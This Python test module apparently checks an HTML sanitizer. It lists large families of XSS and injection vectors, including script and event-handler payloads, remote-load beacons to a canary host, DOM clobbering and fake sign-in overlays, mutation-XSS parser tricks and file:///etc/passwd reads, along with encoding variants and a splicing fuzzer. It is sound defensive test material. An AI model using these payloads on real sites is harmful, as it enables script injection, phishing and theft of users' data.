"""HTML that wants to run, load, lead astray or break out, and the many ways to write the same thing."""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator, Mapping
from types import MappingProxyType

from tests.walls.hostile.pages import MARK
from tests.walls.hostile.words import RUN

CANARY = f"http://{MARK}.invalid"
"""Replaced by a server that listens, where a browser is asked."""

RUNS = (
    "<script>@RUN</script>", "<script src=@URL/a.js></script>", "<script type=module>import '@URL/a.js'</script>", "<svg><script>@RUN</script></svg>",
    "<svg><script href=@URL/a.js /></svg>", "<svg><script xlink:href=data:,@RUN /></svg>", "<math><script>@RUN</script></math>", "<img src=x onerror=@RUN>",
    "<img src=x: onerror\n=@RUN>", "<img/src='x'/onerror=@RUN>", "<img src=x onerror=@RUN//", "<img src onerror=@RUN a=", "<svg onload=@RUN>",
    "<svg/onload=@RUN>", "<svg><animate onbegin=@RUN attributeName=x dur=1s>", "<svg><set onbegin=@RUN attributeName=x>",
    "<svg><a xlink:href='javascript:@RUN'><text y=9>x</text></a></svg>", "<svg><use href='data:image/svg+xml,<svg id=x onload=@RUN>#x'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>@RUN</script>'></iframe></foreignObject></svg>", "<svg><animate attributeName=href values=javascript:@RUN /><a>x</a>",
    "<body onload=@RUN>", "<body onpageshow=@RUN>", "<html onmouseover=@RUN>", "<input autofocus onfocus=@RUN>", "<select autofocus onfocus=@RUN>",
    "<textarea autofocus onfocus=@RUN>", "<button autofocus onfocus=@RUN>x", "<a autofocus tabindex=0 onfocus=@RUN href=#>x</a>", "<div tabindex=0 autofocus onfocus=@RUN>",
    "<details open ontoggle=@RUN>x</details>", "<video autoplay onplay=@RUN><source src=x></video>", "<video><source onerror=@RUN></video>",
    "<audio src=x onerror=@RUN>", "<marquee onstart=@RUN>x</marquee>", "<iframe src='javascript:@RUN'></iframe>", "<iframe srcdoc='<script>@RUN</script>'></iframe>",
    "<iframe srcdoc='&lt;script&gt;@RUN&lt;/script&gt;'></iframe>", "<iframe onload=@RUN>", "<object data='javascript:@RUN'></object>",
    "<object data='data:text/html,<script>@RUN</script>'></object>", "<embed src='javascript:@RUN'>", "<embed src=@URL/a.swf allowscriptaccess=always>",
    "<applet code=x archive=@URL/a.jar></applet>", "<a href='javascript:@RUN'>x</a>", "<a href='JaVaScRiPt:@RUN'>x</a>", "<a href=' javascript:@RUN'>x</a>",
    "<a href='java&#9;script:@RUN'>x</a>", "<a href='java&Tab;script&colon;@RUN'>x</a>", "<a href='java&NewLine;script:@RUN'>x</a>",
    "<a href='&#x6A;avascript:@RUN'>x</a>", "<a href='&#0000106avascript:@RUN'>x</a>", "<a href='\x01javascript:@RUN'>x</a>", "<a href='javascript&#58;@RUN'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>", "<a href='vbscript:msgbox(1)'>x</a>", "<a href='blob:@URL/x'>x</a>",
    "<a href='view-source:javascript:@RUN'>x</a>", "<a href='feed:javascript:@RUN'>x</a>", "<a href='//@RUN' ping=@URL/p>x</a>", "<a href=# onclick=@RUN>x</a>",
    "<form action='javascript:@RUN'><input type=submit id=go></form>", "<form><button formaction='javascript:@RUN'>x</button></form>",
    "<isindex type=image src=1 onerror=@RUN>", "<meta http-equiv=refresh content='0;url=javascript:@RUN'>", "<link rel=import href=@URL/a.html>",
    "<style>*{x:expression(@RUN)}</style>", "<div style=\"width:expression(@RUN)\">", "<div style=\"behavior:url(@URL/a.htc)\">", "<div style='-moz-binding:url(@URL/a.xml#x)'>",
    "<xml id=x><x><![CDATA[<img src=x onerror=@RUN>]]></x></xml>", "<x-zq9 onclick=@RUN id=x tabindex=0>#x", "<zq9 style=animation-name:x onanimationend=@RUN>",
    "<p onbeforecopy=@RUN contenteditable>x</p>", "<div onpointerrawupdate=@RUN>x</div>", "<p hx-get=@URL/h hx-trigger=load>x</p>", "<p data-hx-get=@URL/h data-hx-trigger=load>",
    "<p hx-on:load=@RUN>", "<p hx-on::after-request=@RUN>", "<p data-key=a>", "<p sse-connect=@URL/s>", "<div hx-ext=x hx-vals='js:{a:@RUN}'>x</div>",
)  # fmt: skip

LOADS = (
    "<img src=@URL/i.png>", "<img src=//zq9.invalid/i.png>", "<img src='\\\\zq9.invalid\\i.png'>", "<img src='http:zq9.invalid'>", "<img srcset='@URL/s.png 2x'>",
    "<img src=cid:x srcset=@URL/s.png>", "<img lowsrc=@URL/l.png>", "<img dynsrc=@URL/d.avi>", "<picture><source srcset=@URL/p.webp><img></picture>",
    "<input type=image src=@URL/n.png>", "<table background=@URL/t.png><tr><td background=@URL/td.png>x</td></tr></table>", "<body background=@URL/b.png>x",
    "<video poster=@URL/v.png src=@URL/v.mp4 autoplay></video>", "<video><track src=@URL/t.vtt default></video>", "<audio src=@URL/a.mp3 autoplay></audio>",
    "<iframe src=@URL/f.html></iframe>", "<frameset><frame src=@URL/f.html></frameset>", "<object data=@URL/o.svg></object>", "<embed src=@URL/e.svg>",
    "<link rel=stylesheet href=@URL/c.css>", "<link rel=prefetch href=@URL/p>", "<link rel=preload as=image href=@URL/p>", "<link rel=dns-prefetch href=@URL>",
    "<link rel=preconnect href=@URL>", "<link rel=icon href=@URL/i.ico>", "<link rel=attachment href=file:///etc/passwd>", "<link rel=manifest href=@URL/m>",
    "<style>@import '@URL/i.css';</style>", "<style>body{background:url(@URL/b.png)}</style>", "<style>@font-face{font-family:x;src:url(@URL/f.woff)}*{font-family:x}</style>",
    "<p style='background:url(@URL/p.png)'>x</p>", "<p style=\"background-image:\\75rl(@URL/p.png)\">x</p>", "<p style='content:url(@URL/c)'>", "<p style='cursor:url(@URL/c.cur),auto'>x",
    "<ul style='list-style-image:url(@URL/l)'><li>x</ul>", "<p style='border-image:image-set(\"@URL/b.png\" 1x)'>", "<svg><image href=@URL/i.png /></svg>",
    "<svg><image xlink:href=@URL/i.png /></svg>", "<svg><feImage href=@URL/f.png /></svg>", "<svg><use href=@URL/u.svg#x /></svg>", "<svg><style>@import '@URL/s.css'</style></svg>",
    "<svg><rect fill='url(@URL/g.svg#g)' /></svg>", "<svg><text style='font-family:x;mask:url(@URL/m.svg)'>x", "<math><mtext href=@URL/m>x</mtext></math>",
    "<base href=@URL/><img src=i.png><a href=x>x</a>", "<meta http-equiv=refresh content='0;url=@URL/r'>", "<meta http-equiv=Link content='<@URL/l>;rel=prefetch'>",
    "<meta http-equiv=Content-Security-Policy content='default-src *'>", "<form action=@URL/form id=f><input name=a><input type=submit autofocus></form>",
    "<button form=f formaction=@URL/b>x</button>", "<a href=@URL/a ping=@URL/ping>x</a>", "<a href=x attributionsrc=@URL/as>x</a>", "<img attributionsrc=@URL/as>",
    "<blockquote cite=@URL/q>x</blockquote>", "<del cite=@URL/d>x</del>", "<html manifest=@URL/m.appcache>", "<head profile=@URL/p>", "<portal src=@URL/p></portal>",
    "<fencedframe src=@URL/p></fencedframe>", "<applet codebase=@URL code=x></applet>", "<bgsound src=@URL/b.wav>", "<layer src=@URL/l></layer>", "<xml src=@URL/x.xml></xml>",
    "<?xml-stylesheet href='@URL/x.xsl'?>", "<!DOCTYPE x SYSTEM '@URL/x.dtd'><p>x", "<!--[if gte IE 4]><img src=@URL/ie.png><![endif]-->", "<v:imagedata src=@URL/v.png />",
    "<img src=file:///etc/passwd>", "<img src=php://filter/resource=/etc/passwd>", "<object data=file:///etc/passwd></object>", "<img src='data:image/svg+xml,<svg onload=@RUN>'>",
    "<img src=cid:@URL/c.png>", "<img src='cid:x\" src=\"@URL/c.png'>", "<img src=\"cid:x' onerror='@RUN\">", "<img src=' cid:x' onerror=@RUN>", "<img src=CID:x onerror=@RUN>",
    "<img src='/desk/files/x' alt=own>", "<a href='/desk/people/'>own</a>", "<a href='../../desk/'>own</a>", "<a href='?a=b'>own</a>",
)  # fmt: skip

CLOBBERS = (
    "<a id=htmx name=htmx href=cid:x>x</a>", "<img name=body><img name=cookie>", "<form name=document><input name=querySelector></form>", "<a id=composer>x</a>",
    "<a id=csrfmiddlewaretoken>", "<input name=csrfmiddlewaretoken value=x>", "<div id=main class='alarm danger' role=alert aria-live=assertive>The answer is late</div>",
    "<p class=zq9 id=zq9 name=zq9 slot=zq9 part=zq9 is=zq9 itemid=zq9>", "<label for=zq9>x</label>", "<p accesskey=x tabindex=1 draggable contenteditable>x",
    "<dialog open style='position:fixed;inset:0'>Session over: <input type=password></dialog>", "<div popover id=p>x</div><button popovertarget=p>x</button>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background:#fff'>Sign in again</div>", "<slot name=x></slot>", "<template id=x><p>x</template>",
)  # fmt: skip

MUTATIONS = (
    "<noscript><p title='</noscript><img src=x onerror=@RUN>'>", "<svg></p><style><a id='</style><img src=1 onerror=@RUN>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=@RUN&gt;'>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=@RUN>",
    "<math><mtext><mglyph><svg><mtext><style><path id='</style><img onerror=@RUN src>'>", "<svg><p><style><g title='</style><img src onerror=@RUN>'>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=@RUN></style></annotation-xml></math>", "<svg><desc><style><img src=x onerror=@RUN></style></desc></svg>",
    "<svg><title><style><img src=x onerror=@RUN></style></title></svg>", "<table><caption><svg><style><a title='</style><img src onerror=@RUN>'>", "<xmp><p title='</xmp><img src=x onerror=@RUN>'>",
    "<noembed><p title='</noembed><img src=x onerror=@RUN>'>", "<noframes><p title='</noframes><img src=x onerror=@RUN>'>", "<plaintext><img src=x onerror=@RUN>",
    "<iframe><p title='</iframe><img src=x onerror=@RUN>'>", "<textarea><p title='</textarea><img src=x onerror=@RUN>'>", "<title><p title='</title><img src=x onerror=@RUN>'>",
    "<select><style></select><img src=x onerror=@RUN></style>", "<option><style></option></select><img src=x onerror=@RUN></style>", "<template><p title='</template><img src=x onerror=@RUN>'>",
    "<!--><img src=x onerror=@RUN>-->", "<!---><img src=x onerror=@RUN>", "<!-- --!><img src=x onerror=@RUN>", "<!-- -- ><img src=x onerror=@RUN> -->", "<![CDATA[<img src=x onerror=@RUN>]]>",
    "<svg><![CDATA[</svg><img src=x onerror=@RUN>]]></svg>", "<?xml ?><img src=x onerror=@RUN>", "<!x><img src=x onerror=@RUN>", "</ ><img src=x onerror=@RUN>", "<//><img src=x onerror=@RUN>",
    "<scr<script>ipt>@RUN</scr</script>ipt>", "<<script>@RUN//<</script>", "<img \"\"\"><script>@RUN</script>\">", "<a title='`'><img alt='` onerror=@RUN src=x'>",
    "<p title=\"</p><script>@RUN</script>\">x", "<p lang='\"><script>@RUN</script>'>x", "<td align='\"onmouseover=@RUN'>x", "<ol start='1\" onclick=@RUN'>", "<img alt='\"><script>@RUN</script>' src=cid:x>",
    "<a href='http://a/\"onclick=\"@RUN'>x</a>", "<a href='http://a/%22onclick=%22@RUN'>x</a>", "<a href='mailto:a\"><script>@RUN</script>'>x</a>", "<p dir=`onclick=@RUN`>x",
    "<b><p><b><p><b><table><b></p></table><img src=x onerror=@RUN>", "<a><a href='javascript:@RUN'>x", "<table><a href='javascript:@RUN'>x<td></table>", "<li><p></li><script>@RUN</script>",
    "<svg><b><script>@RUN</script></b></svg>", "<math href='javascript:@RUN'>x</math>", "<math><maction actiontype=statusline xlink:href='javascript:@RUN'>x", "\ufeff<script>@RUN</script>",
    "<script\x0c>@RUN</script\x0b>", "<script/x>@RUN</script/x>", "<ſcript>@RUN</ſcript>", "<script\u2028>@RUN</script>", "<img src=x onerror\u3000=@RUN>", "<K onclick=@RUN>", "%3Cscript%3E@RUN%3C/script%3E",
)  # fmt: skip

FAMILIES: Mapping[str, tuple[str, ...]] = MappingProxyType(
    {"runs": RUNS, "loads": LOADS, "clobbers": CLOBBERS, "mutations": MUTATIONS}
)

Way = Callable[[str], str]
WAYS: Mapping[str, Way] = MappingProxyType(
    {
        "as it is": lambda source: source,
        "in capitals": lambda source: "".join(c.upper() if n % 2 else c for n, c in enumerate(source)),
        "slashes for spaces": lambda source: source.replace(" ", "/"),
        "tabs for spaces": lambda source: source.replace(" ", "\t"),
        "form feeds for spaces": lambda source: source.replace(" ", "\x0c"),
        "NUL in names": lambda source: source.replace("<s", "<\0s").replace("<i", "<i\0"),
        "double quotes": lambda source: source.replace("'", '"'),
        "unclosed": lambda source: source.rstrip(">"),
        "in a paragraph": lambda source: f"<p>prima</p>{source}<p>dopo</p>",
        "in an attribute": lambda source: f'<p title="{source}">x</p>',
        "in a title and out": lambda source: f"<img alt='x{source}' src='cid:a'>",
        "in an open tag": lambda source: f"<p <b {source}",
        "in a comment": lambda source: f"<!-- {source} --> x <!-- > {source} -->",
        "in svg": lambda source: f"<svg><g>{source}</g></svg>",
        "in svg text": lambda source: f"<svg><desc>{source}</desc><title>{source}</title></svg>",
        "in math": lambda source: f"<math><mtext>{source}</mtext></math>",
        "in math annotation": lambda source: (
            f"<math><annotation-xml encoding='text/html'>{source}</annotation-xml></math>"
        ),
        "in a style": lambda source: f"<style>{source}</style>",
        "in a table": lambda source: f"<table><tr>{source}<td>{source}</table>",
        "in a select": lambda source: f"<select><option>{source}</select>{source}",
        "in a template": lambda source: f"<template>{source}</template>",
        "in a shadow root": lambda source: f"<div><template shadowrootmode=open>{source}</template></div>",
        "in noscript": lambda source: f"<noscript>{source}</noscript>",
        "in textarea": lambda source: f"<textarea>{source}</textarea>",
        "in quoted mail": lambda source: f"<blockquote type=cite>{source}</blockquote>",
        "after a broken end": lambda source: f"</body></html>{source}",
        "after another html": lambda source: f"<html><head></head><body>x</body></html><html><body>{source}",
        "escaped once": lambda source: source.replace("<", "&lt;").replace(">", "&gt;"),
        "quotes escaped": lambda source: source.replace("'", "&#39;").replace('"', "&quot;"),
        "twice": lambda source: f"{source}{source}",
        "halved": lambda source: f"{source[: len(source) // 2]}<b></b>{source[len(source) // 2 :]}",
    }
)


def filled(source: str, *, url: str = CANARY, run: str = RUN) -> str:
    return source.replace("@RUN", run).replace("@URL", url)


def everything(*, url: str = CANARY, run: str = RUN) -> Iterator[tuple[str, str]]:
    """Each vector in each way, with its name."""
    for family, sources in FAMILIES.items():
        for number, source in enumerate(sources):
            for way, write in WAYS.items():
                yield f"{family} {number} {way}", write(filled(source, url=url, run=run))


def spliced(count: int, seed: int) -> Iterator[tuple[str, str]]:
    """Vectors cut in pieces and put together again, as a fuzzer does; the same ones each time."""
    chance = random.Random(seed)  # noqa: S311 - the same ones each time
    sources = [filled(source) for family in FAMILIES.values() for source in family]
    glue = [
        "",
        " ",
        "<p>",
        "</p>",
        "<!--",
        "-->",
        "'",
        '"',
        ">",
        "<",
        "/",
        "&",
        "&#",
        "<svg>",
        "</svg>",
        "<math>",
        "<style>",
        "</style>",
        "<table>",
        "\0",
        "]]>",
    ]
    for number in range(count):
        picked = [chance.choice(sources) for _ in range(chance.randint(2, 5))]
        pieces = [
            source[: chance.randint(0, len(source))]
            if chance.random() < 0.5
            else source[chance.randint(0, len(source)) :]
            for source in picked
        ]
        yield f"splice {seed}/{number}", "".join(piece + chance.choice(glue) for piece in pieces)
